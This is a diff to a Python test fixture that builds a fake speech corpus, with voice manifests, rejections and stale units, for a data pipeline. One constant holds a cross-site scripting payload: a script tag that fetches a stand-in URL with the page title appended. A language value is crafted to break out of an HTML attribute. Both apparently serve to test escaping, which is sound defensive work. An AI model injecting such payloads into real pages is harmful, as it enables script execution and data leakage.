@@ -22,7 +22,6 @@ from pipelines.rows import (
 )
 from pipelines.units import Committed
 
-CONFIG = "c" * 64
 HOSTILE = "<script>fetch('https://example.org/?'+document.title)</script>"
 ENGINES = {"recogniser": "pocketsphinx 5.1.0", "speaker_verifier": "resemblyzer 0.1.4", "quality": "DNSMOS P.835"}
 
@@ -30,14 +29,20 @@ ENGINES = {"recogniser": "pocketsphinx 5.1.0", "speaker_verifier": "resemblyzer 
 def make_corpus(corpus):
     """`ada` trained; `linus` prepared; a hostile one whose every text tries to leave its place."""
     corpus.mkdir(parents=True)
-    about = {"schema_version": 1, "config_digest": CONFIG, "digest": "d" * 64, "engines": ENGINES}
+    about = {"schema_version": 1, "corpus_digest": "d" * 64, "speech": None}
+    about["engines"] = {"recogniser": "pocketsphinx", "recogniser_model": None, "align_models": {}, "quality": "dnsmos"}
+    about["units"] = ["a" * 20, "b" * 20, "e" * 20]
     about["tools"] = {"torch": "2.8.0", "ray": "2.60.0"}
     _json(corpus / "corpus.json", about)
     ada = _voice(corpus, "ada", clips=14, language="en", unit="a" * 20)
     _voice(corpus, "linus", clips=6, language="zh", unit="b" * 20)
     _voice(corpus, "hostile", clips=2, language='en"><b>', unit="e" * 20, text=HOSTILE, uri=f"/in/{HOSTILE}\udcff.wav")
+    unread = Rejection(row_id="x4", voice="linus", uri="/in/notes.mp3", stage="ingest", reason="unreadable")
+    _parquet(corpus / "voices" / "linus" / "rejected" / "inventory.parquet", [unread], REJECTION_SCHEMA)
+    _json(corpus / "voices" / "linus" / "voice.json", {"voice": "linus", "display_name": "Linus (radio)"})
     # What an older config left behind must not be counted twice.
-    _voice(corpus, "ada", clips=3, language="en", unit="f" * 20, config="0" * 64)
+    _voice(corpus, "gone", clips=3, language="en", unit="9" * 20, current=False)
+    _voice(corpus, "ada", clips=3, language="en", unit="f" * 20, current=False)
     _run(corpus / "voices" / "ada", ada)
     return corpus
 
@@ -48,7 +53,7 @@ def tone(seconds, pitch_hz=220.0, rate_hz=RATE_HZ):
 
 
 def _voice(
-    corpus, voice, *, clips, language, unit, text="The quiet river carried leaves.", uri="/in/a.wav", config=CONFIG
+    corpus, voice, *, clips, language, unit, text="The quiet river carried leaves.", uri="/in/a.wav", current=True
 ):
     folder = corpus / "voices" / voice
     generator = np.random.default_rng(clips)
@@ -88,7 +93,7 @@ def _voice(
     account = Account(recording_id="r" * 20, voice=voice, uri=lines[0]["uri"], digest="9" * 64,
                       duration_samples=kept + 160_000 + 80_000, kept_samples=kept, rejected_samples=160_000,
                       non_speech_samples=80_000)  # fmt: skip
-    done = Committed(unit_id=unit, voice=voice, config_digest=config, files={}, accounts=(account,), kept=clips,
+    done = Committed(unit_id=unit, voice=voice, config_digest="c" * 64, files={}, accounts=(account,), kept=clips,
                      rejected=3, counts={})  # fmt: skip
     _parquet(folder / "manifest" / f"{unit}.parquet", lines, MANIFEST_SCHEMA)
     _parquet(folder / "rejected" / f"{unit}.parquet", rejections, REJECTION_SCHEMA)
@@ -100,7 +105,7 @@ def _voice(
             shard.addfile(info, io.BytesIO(data))
     (folder / "units").mkdir(parents=True, exist_ok=True)
     (folder / "units" / f"{unit}.done").write_text(done.to_json())
-    if config == CONFIG:
+    if current:
         selection = [
             SelectionRow(clip_id=line["clip_id"], unit_id=unit, keep=index != 1, prompt=index == 0,
                          reason="other_speaker" if index == 1 else "", num_samples=line["num_samples"],
